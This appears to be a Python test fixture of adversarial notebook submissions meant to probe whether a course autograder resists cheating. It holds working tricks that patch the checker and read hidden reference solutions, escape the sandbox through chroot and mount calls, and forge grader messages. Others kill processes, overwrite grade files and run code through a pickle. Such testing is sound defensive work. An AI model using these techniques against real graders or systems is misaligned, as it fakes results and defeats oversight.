"""Submissions that try to earn a point without solving anything: name -> the code of their one cell.

Each is for notebook 02 and calls its own trick from all four exercises. A trick that finds nothing answers as one who
has not solved the exercise. Some do harm, or find the answers, where nothing holds them: those of `NEED_WALLS` look
first whether they are shut in, since the root folder that the sandbox makes has an empty /old.
"""

EXERCISES = {"count_parameters": "shapes, rank", "merged_weight": "W0, A, B, alpha",
             "best_rank_r_error": "delta, rank", "first_update": "x, G, A, alpha, lr"}
ALL = "\n".join(f"def {name}({names}):\n    return trick('{name}', {names})" for name, names in EXERCISES.items())
SOURCE = '''
import glob, os
def run_checker(source, name, arguments):
    """Runs the checker's own source, with its imports pointed at the package, and asks its reference."""
    import sys, types
    names = {"__name__": "minilora.check.nb02", "__package__": "minilora.check"}
    class Exercise:
        def __init__(self, name, reference, *rest, **options):
            self.reference = reference
    module = types.ModuleType("minilora.check")
    module.Exercise, module.Prediction, module.Estimate = Exercise, print, print
    sys.modules["minilora.check"] = module
    exec(compile(source, "nb02", "exec"), names)
    return names[name].reference(*arguments)
'''
FALSE = '''
import torch
class Near(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), options=None):
        return torch.tensor(True)
'''

TRICKS = {
    "patch_diagnose": '''
import minilora.check
minilora.check.Exercise.diagnose = lambda *a: None
minilora.check.Exercise.judge = lambda *a: None
def trick(name, *a): return 0.0''',
    "call_reference": '''
from minilora.check import nb02
def trick(name, *a): return getattr(nb02, name).reference(*a)''',
    "import_the_checker_past_the_stub": '''
import sys, importlib
def trick(name, *a):
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "Silencer"]
    for key in [k for k in sys.modules if k.startswith("minilora.check")]:
        del sys.modules[key]
    return getattr(importlib.import_module("minilora.check.nb02"), name).reference(*a)''',
    "read_the_checker": SOURCE + '''
def trick(name, *a):
    import minilora
    path = os.path.join(os.path.dirname(minilora.__file__), "check", "nb02.py")
    return run_checker(open(path).read(), name, a)''',
    "search_the_disk_for_the_checker": SOURCE + '''
found = [os.path.join(place, file) for place, _, files in os.walk("/") if not place.startswith("/proc")
         for file in files if file == "nb02.py"]
def trick(name, *a): return run_checker(open(found[0]).read(), name, a)''',
    "read_the_solved_notebook": '''
import os, json
names = {}
for place, _, files in os.walk("/"):
    for file in files:
        if file.startswith("02_") and file.endswith(".ipynb"):
            for cell in json.load(open(os.path.join(place, file)))["cells"]:
                if "### BEGIN SOLUTION" in "".join(cell["source"]):
                    exec("import torch\\n" + "".join(cell["source"]), names)
def trick(name, *a): return names[name](*a)''',
    "unmount_what_hides_the_checker": SOURCE + '''
def trick(name, *a):
    import ctypes, minilora
    folder = os.path.join(os.path.dirname(minilora.__file__), "check")
    libc = ctypes.CDLL(None)
    libc.umount2(folder.encode(), 2)
    libc.unshare(0x10020000)
    libc.umount2(folder.encode(), 2)
    libc.mount(os.path.dirname(folder).encode(), b"/tmp", None, 4096, None)
    libc.mount(b"none", b"/", None, 32 | 4096, None)
    os.makedirs("/tmp/over", exist_ok=True)
    lower = f"lowerdir={os.path.dirname(folder)}:/usr".encode()
    libc.mount(b"overlay", b"/tmp/over", b"overlay", 0, lower)
    for place in (folder, "/tmp/check", "/tmp/over/check"):
        if os.path.exists(place + "/nb02.py"):
            return run_checker(open(place + "/nb02.py").read(), name, a)
    return 0.0''',
    "leave_the_root": SOURCE + '''
def trick(name, *a):
    import minilora
    try:
        here = os.open("/", os.O_RDONLY)
        os.mkdir("/tmp/x")
        os.chroot("/tmp/x")
        os.fchdir(here)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    for path in ("/old", "/proc/1/root", "/proc/1/cwd", "/proc/self/root"):
        file = path + os.path.dirname(minilora.__file__) + "/check/nb02.py"
        if os.path.exists(file):
            return run_checker(open(file).read(), name, a)
    return 0.0''',
    "open_descriptors": SOURCE + '''
def trick(name, *a):
    import minilora
    for n in range(200):
        try:
            file = os.open(os.path.dirname(minilora.__file__)[1:] + "/check/nb02.py", os.O_RDONLY, dir_fd=n)
            return run_checker(os.fdopen(file).read(), name, a)
        except OSError:
            pass
    return 0.0''',
    "forge_the_pipe": '''
import os, json
value = ["tensor", "float32", [], "AAAAAA=="]
call = {"value": 0.0, "failure": None, "after": [], "printed": ""}
for n in range(3, 60):
    for i in range(1, 12):
        for what in ({"id": i, "calls": [call] * 28}, {"id": i, "ok": True}, ["merged_weight", "ok"],
                     {"id": i, "points": 1, "message": "ok", "problem": None}):
            try:
                os.set_blocking(n, False)
                os.write(n, json.dumps(what).encode() + b"\\n")
            except OSError:
                pass
def trick(name, *a): return 0.0''',
    "take_over_the_worker": '''
import json, minilora.grading.worker as worker
def forged(request, shell):
    return {"calls": [{"value": None, "failure": None, "after": [], "printed": "", "ok": True}] * 28, "ok": True}
worker.answer = forged
worker.encode_call = lambda *a: {"value": ["same", 0], "failure": None, "after": [0, 0, 0, 0], "printed": ""}
def trick(name, *a): return 0.0''',
    "talk_to_the_nursery": '''
import os, socket, array
for n in range(3, 60):
    try:
        link = socket.socket(fileno=n)
        link.setblocking(False)
        link.send(b"ss")
        socket.recv_fds(link, 10, 10)
    except OSError:
        pass
def trick(name, *a): return 0.0''',
    "always_near": FALSE + "def trick(name, *a): return torch.zeros(3).as_subclass(Near)",
    "always_equal": '''
class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__
def trick(name, *a): return Equal(0)''',
    "always_equal_word": '''
class Equal(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
    __class__ = property(lambda self: float)
def trick(name, *a): return Equal("ok")''',
    "patch_torch": '''
import torch
torch.isclose = lambda g, *a, **k: torch.ones((), dtype=torch.bool)
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.all = lambda *a, **k: True
def trick(name, *a): return torch.zeros(())''',
    "nan": '''
def trick(name, *a): return float("nan") if name != "merged_weight" else a[0] * float("nan")''',
    "own_pickle": '''
import os
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/owned",)
def trick(name, *a): return [Bomb(), Bomb()]''',
    "garbage_collector": '''
import gc
exercises = [x for x in gc.get_objects() if type(x).__name__ in ("Exercise", "Examination")]
references = [x for x in gc.get_objects() if callable(x) and getattr(x, "__name__", "").endswith("_reference")]
def trick(name, *a): return next((x.reference for x in exercises if x.name == name), references[0])(*a)''',
    "frames": '''
import sys
def trick(name, *a):
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if hasattr(value, "reference") and type(value).__name__ == "Exercise":
                return value.reference(*a)
            if isinstance(value, list) and value and hasattr(value[0], "changed"):
                return value[0].value
        frame = frame.f_back
    return 0.0''',
    "memory_of_others": '''
import os
found = []
for pid in filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else []):
    if pid == str(os.getpid()):
        continue
    try:
        found += [open(f"/proc/{pid}/{file}", "rb").read() for file in ("cmdline", "environ")]
        found.append(open(f"/proc/{pid}/mem", "r+b"))
    except OSError:
        pass
def trick(name, *a): return 1.0 if any(b"seed" in x for x in found if isinstance(x, bytes)) else 0.0''',
    "kill_the_grader": '''
import os, signal
for pid in (os.getppid(), -1, *range(2, 40)):
    try:
        if pid and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
def trick(name, *a): return 0.0''',
    "write_my_own_grade": '''
import os, csv
for place, _, files in os.walk("/"):
    for file in files:
        if not place.startswith("/proc") and (file.endswith(".csv") and "grade" in file or file.endswith(".ipynb")):
            try:
                open(os.path.join(place, file), "w").write("student,points\\nme,4\\n")
            except OSError:
                pass
def trick(name, *a): return 0.0''',
    "exit": "import os\ndef trick(name, *a): os._exit(0)",
    "exit_by_exception": "def trick(name, *a): raise SystemExit(0)",
    "interrupt": "def trick(name, *a): raise KeyboardInterrupt",
    "exit_at_the_cell": "import os\n@(lambda f: os._exit(0))\ndef trick(name, *a): return 0.0",
    "twins": '''
import os
def trick(name, *a):
    os.fork()
    return 0.0''',
    "a_thread_that_writes": '''
import os, threading, json
def write():
    reply = json.dumps({"id": 3, "calls": [{"value": 0.0, "failure": None, "after": [], "printed": ""}] * 28}) + "\\n"
    for _ in range(200):
        for n in range(3, 12):
            try:
                os.write(n, reply.encode())
            except OSError:
                pass
def trick(name, *a):
    threading.Thread(target=write, daemon=True).start()
    return 0.0''',
    "foresee_the_seed": '''
import random, torch
random.seed(0); torch.manual_seed(0)
random.random = lambda: 0.0
def trick(name, *a):
    random.seed(0); torch.manual_seed(0)
    return torch.randn(()).item()''',
    "not_my_argument": '''
def trick(name, *a):
    for thing in a:
        if hasattr(thing, "zero_"):
            thing.zero_()
    return a[0]''',
    "too_large": '''
import torch
def trick(name, *a):
    return torch.zeros(1).expand(10**9) if name == "merged_weight" else 10**5000''',
    "zero_sized": '''
import torch
def trick(name, *a): return torch.empty(0) if name == "merged_weight" else torch.empty(10**6, 0)''',
    "memory": "def trick(name, *a): return len(bytearray(50 * 2**30))",
    "shared_memory": "import mmap\ndef trick(name, *a): return len(mmap.mmap(-1, 50 * 2**30))",
    "raise_what_is_expected": '''
class ValueError_(NotImplementedError, ValueError, AssertionError): pass
def trick(name, *a): raise ValueError_("ok")''',
    "a_name_with_a_newline": '''
type("ok\\n1,1,ok", (), {})
class Odd: pass
Odd.__name__ = "x\\nme,02,merged_weight,1,1,ok\\x1b[2J"
def trick(name, *a): return Odd()''',
    "print_ok": "def trick(name, *a): print('\\nok: right on 4 fresh inputs\\n', flush=True)",
    "deep": '''
def trick(name, *a):
    x = []
    for _ in range(3000):
        x = [x]
    return x''',
    "callable_class": '''
class Trick:
    def __call__(self, *a): return self
    def __getattr__(self, name): return self
    def __float__(self): return 0.0
trick = Trick()
Trick.__call__ = lambda self, *a: self
def trick(name, *a): return Trick()''',
    "recursion": "def trick(name, *a): return trick(name, *a)",
}


NEED_WALLS = {"import_the_checker_past_the_stub", "read_the_checker", "search_the_disk_for_the_checker",
              "read_the_solved_notebook", "unmount_what_hides_the_checker", "leave_the_root", "open_descriptors",
              "memory_of_others", "kill_the_grader", "write_my_own_grade", "twins"}


def submission(trick: str, number: str = "02", signatures: dict[str, str] = EXERCISES) -> str:
    """The one cell of a submission to notebook `number`. All of the trick runs as soon as the cell is read."""
    calls = "\n".join(f"def {name}({names}):\n    return trick('{name}', {names})"
                      for name, names in signatures.items())
    code = TRICKS[trick].strip().replace("nb02", f"nb{number}").replace('"02_', f'"{number}_')
    look = "import os\n    os.path.isdir('/old') or os._exit(1)" if trick in NEED_WALLS else "pass"
    return (f"@(lambda f: f())\ndef start():\n    {look}\n"
            f"    exec({code!r}, globals())\n\n\n{calls}")


CHEATS = {trick: submission(trick) for trick in TRICKS}
